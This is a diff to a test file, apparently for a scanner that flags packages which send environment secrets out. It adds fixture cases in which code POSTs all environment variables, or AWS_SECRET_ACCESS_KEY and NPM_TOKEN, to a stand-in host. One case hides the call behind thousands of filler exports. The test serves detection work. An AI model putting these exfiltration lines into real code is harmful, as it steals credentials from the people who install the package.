@@ -6,6 +6,26 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'Deno is asked for all of it',
+      files: { 'index.js': `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(Deno.env.toObject()) })` },
+      weight: 'proof',
+    },
+    {
+      when: 'Deno is asked for two keys of clouds',
+      files: {
+        'index.js': `fetch('https://collect.invalid', { method: 'POST', body: Deno.env.get('AWS_SECRET_ACCESS_KEY') + Deno.env.get('NPM_TOKEN') })`,
+      },
+      says: ['AWS_SECRET_ACCESS_KEY'],
+      weight: 'strong',
+    },
+    {
+      when: 'the code between the environment and where it goes is as long as a bundle, and nobody asked for it',
+      files: {
+        'index.js': `const all = () => process.env; ${Array.from({ length: 2500 }, (_, at) => `exports.f${at} = () => ${at};`).join('\n')} fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all()) })`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a hook gathers it in another file and sends it to a host that is not known',
       files: {
         'package.json': { name: 'specimen', scripts: { postinstall: 'node run.js' } },
@@ -202,6 +222,12 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
     },
   ],
   silent: [
+    {
+      when: 'a client asks the system that it runs in for its own key by name',
+      files: {
+        'index.js': `const read = name => globalThis.process ? process.env[name] : globalThis.Deno?.env?.get?.(name)?.trim(); exports.ask = (text, key = read('SPECIMEN_API_KEY')) => fetch('https://api.specimen.invalid/v1', { headers: { authorization: 'Bearer ' + key }, body: text })`,
+      },
+    },
     {
       when: 'a token goes to the service that gave it out',
       files: {
